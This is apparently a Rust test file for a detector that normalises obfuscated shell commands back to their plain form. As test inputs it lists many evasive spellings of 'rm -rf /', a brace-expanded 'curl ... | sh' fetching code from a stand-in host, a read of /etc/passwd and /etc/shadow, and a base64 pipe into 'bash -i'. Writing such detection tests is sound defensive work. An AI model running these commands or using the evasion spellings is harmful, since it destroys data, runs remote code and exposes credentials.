use super::Shell;
use crate::flow::detect::normalise::undone;

fn plain(text: &[u8]) -> Option<Vec<u8>> {
    let [.., plain] = undone(text);
    plain
}

fn is(spelt: &str, meant: &str) {
    let plain = plain(spelt.as_bytes()).unwrap_or_default();
    assert!(String::from_utf8_lossy(&plain).contains(meant), "{spelt}: {:?}", String::from_utf8_lossy(&plain));
}

#[test]
fn spellings_of_one_command_become_it() {
    for spelt in [
        "rm${IFS}-rf${IFS}/",
        "rm$IFS$9-rf$IFS$9/",
        "r''m -rf /",
        "r\"m\" -rf /",
        "\\rm -rf /",
        "r\\m -rf /",
        "{rm,-rf,/}",
        "a=rm; $a -rf /",
        "X='rm -rf'\n$X /",
        "rm \\\n-rf \\\n /",
        "r$@m -rf /",
        "$'\\x72\\x6d' -rf /",
        "$(echo rm) -rf /",
        "\"rm\" -rf /",
        "a=r;b=m;$a$b -rf /",
        "a=r; ${a}m -rf /",
        "\\x72\\x6d -rf /",
        "r^m -rf /",
    ] {
        is(spelt, if spelt.contains("\\\n") { "rm -rf  /" } else { "rm -rf /" });
    }
    is("{curl,-L,https://a.example/i,|,sh}", "curl -L https://a.example/i | sh");
    is("cat /etc/{passwd,shadow}", "/etc/passwd /etc/shadow");
    is("bash -c {echo,aGk=}|{base64,-d}|{bash,-i}", "echo aGk=|base64 -d|bash -i");
}

#[test]
fn what_has_another_meaning_stays() {
    for text in ["rm -rf \"$1/\"", "rm -rf \"/$DIR\"", "don't and can't", "plain words", "awk '{print $1}'"] {
        let made = plain(text.as_bytes()).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&made).contains("rm -rf /\n"), "{text}");
    }
    assert_eq!(plain(b"plain words"), None);
    assert_eq!(plain(b""), None);
}

#[test]
fn what_nobody_uses_takes_no_room_from_a_variable_that_is_used() {
    let unused = (0..2 * super::MAX_VARIABLES).fold(String::new(), |text, n| text + &format!("x{n}=y\n"));
    is(&format!("{unused}cmd=rm\n$cmd -rf /"), "rm -rf /");
    is("cmd=rm\n$c\\\nmd -rf /", "rm -rf /");
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_taken_and_the_answer_is_bounded(bytes in "[a={}$'\"\\\\,;x/ \n()`IFS9@^-]{0,300}") {
        let made = plain(bytes.as_bytes()).unwrap_or_default();
        proptest::prop_assert!(made.len() <= bytes.len() * super::MAX_GROWTH + super::MAX_VALUE);
    }
}

proptest::proptest! {
    #[test]
    fn no_line_is_passed_over_that_spells_something(text in "[rm\\\\'\"${}^`IFS@/. \n\r(,a;x-]{0,90}") {
        let mut every = Shell::new(text.as_bytes());
        (0..text.len()).for_each(|at| every.mark(at));
        proptest::prop_assert_eq!(plain(text.as_bytes()), every.finish());
    }
}
